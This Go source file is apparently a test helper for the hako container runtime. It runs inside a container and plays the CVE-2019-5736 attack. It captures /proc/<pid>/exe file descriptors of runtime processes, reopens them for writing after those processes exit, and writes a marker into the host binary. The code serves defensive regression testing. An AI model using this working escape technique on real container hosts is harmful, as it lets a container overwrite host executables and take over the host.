// Command attackhelper is a hostile container process for hako's attack
// tests (test/attack_*_test.go). The tests build it statically and copy it
// into a container's rootfs. It is not part of the runtime.
//
//	attackhelper exe-watch DIR
//
// plays the CVE-2019-5736 attack: it watches /proc for new processes, opens
// /proc/<pid>/exe of each with O_PATH (the runtime, if the runtime ever runs
// a binary of its own inside the container), and once the test creates
// DIR/go it waits for each captured process to exit and reopens the held fd
// for writing through /proc/self/fd/N, then writes to it. What it captured
// and what happened is written as JSON to DIR/result.
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// Capture is one process executable held by the attacker, and the outcome
// of the write attempt on it. The test reads these fields.
type Capture struct {
	Pid      int    `json:"pid"`
	Target   string `json:"target"` // readlink of the held fd
	Dev      uint64 `json:"dev"`
	Ino      uint64 `json:"ino"`
	Exited   bool   `json:"exited"`
	OpenErr  string `json:"openErr"`
	WriteErr string `json:"writeErr"`
	Written  bool   `json:"written"`
}

func main() {
	if len(os.Args) != 3 || os.Args[1] != "exe-watch" {
		fmt.Fprintln(os.Stderr, "usage: attackhelper exe-watch DIR")
		os.Exit(2)
	}
	if err := exeWatch(os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "attackhelper:", err)
		os.Exit(1)
	}
}

func exeWatch(dir string) error {
	var self unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &self); err != nil {
		return fmt.Errorf("stat own exe: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "ready"), nil, 0o644); err != nil {
		return err
	}
	seen := map[int]bool{os.Getpid(): true}
	fds := map[int]int{} // index in caps -> held fd
	var caps []Capture
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(filepath.Join(dir, "go")); err == nil {
			break
		}
		ents, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || seen[pid] {
				continue
			}
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				// Not yet dumpable (or gone): look again next round.
				continue
			}
			seen[pid] = true
			var st unix.Stat_t
			if err := unix.Fstat(fd, &st); err != nil || (st.Dev == self.Dev && st.Ino == self.Ino) {
				unix.Close(fd)
				continue
			}
			target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if target == "/bin/busybox" {
				unix.Close(fd)
				continue
			}
			fds[len(caps)] = fd
			caps = append(caps, Capture{Pid: pid, Target: target, Dev: st.Dev, Ino: st.Ino})
			if err := writeJSON(filepath.Join(dir, "captured"), caps); err != nil {
				return err
			}
		}
		time.Sleep(time.Millisecond)
	}
	for i := range caps {
		c := &caps[i]
		c.Exited = waitExit(c.Pid, 10*time.Second)
		// The classic exploit: the O_PATH fd outlives the process, and
		// reopening it through the magic link asks for write access to
		// whatever file it is (ETXTBSY while the binary runs).
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fds[i]), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			c.OpenErr = errName(err)
			continue
		}
		if _, err := unix.Pwrite(w, []byte("PWNED-BY-CONTAINER"), 0); err != nil {
			c.WriteErr = errName(err)
		} else {
			c.Written = true
		}
		unix.Close(w)
	}
	return writeJSON(filepath.Join(dir, "result"), caps)
}

// waitExit waits until pid is gone or a zombie.
func waitExit(pid int, limit time.Duration) bool {
	deadline := time.Now().Add(limit)
	for time.Now().Before(deadline) {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return true
		}
		if i := lastParen(data); i > 0 && i+2 < len(data) && (data[i+2] == 'Z' || data[i+2] == 'X') {
			return true
		}
		time.Sleep(5 * time.Millisecond)
	}
	return false
}

func lastParen(b []byte) int {
	for i := len(b) - 1; i >= 0; i-- {
		if b[i] == ')' {
			return i
		}
	}
	return -1
}

func errName(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno) + ": " + errno.Error()
	}
	return err.Error()
}

// writeJSON replaces path atomically, so that the test never reads half.
func writeJSON(path string, v any) error {
	data, err := json.Marshal(v)
	if err != nil {
		return err
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}
